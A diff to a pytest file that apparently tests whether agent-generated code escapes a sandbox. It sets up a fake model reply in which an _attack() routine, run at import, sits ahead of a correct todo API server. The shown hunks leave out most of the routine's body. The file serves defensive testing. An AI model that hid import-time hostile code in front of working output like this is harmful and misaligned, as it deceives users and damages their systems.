@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 from boxkit import escaped, hostile_script
+from fakes.servers import TODOS_SERVER, fenced
 
 from autogpt.agents.architect import ArchitectGPT
 from autogpt.agents.backend import BackendGPT
@@ -32,8 +33,7 @@ IDEA = (
     'a todo API: POST /todos with {"title": "milk"} returns 201 and {"title": "milk"}; '
     'GET /todos returns [{"title": "milk"}]'
 )
-SERVER = """```python
-import os, pathlib
+ATTACK = """import os, pathlib
 
 def _attack():
     here = pathlib.Path.cwd()
@@ -54,24 +54,9 @@ def _attack():
             pass
 
 _attack()
-
-from fastapi import FastAPI
-
-app = FastAPI()
-todos = {}
-
-
-@app.post("/todos", status_code=201)
-def create(body: dict):
-    i = len(todos) + 1
-    todos[i] = {"id": i, "title": body.get("title", "")}
-    return todos[i]
-
-
-@app.get("/todos")
-def list_todos():
-    return list(todos.values())
-```"""
+"""
+# the hostile code runs at import, ahead of a correct todo server
+SERVER = fenced(ATTACK + "\n" + TODOS_SERVER)
 
 
 async def build(tmp_path: Path, marker: Path, **settings: object) -> Result:
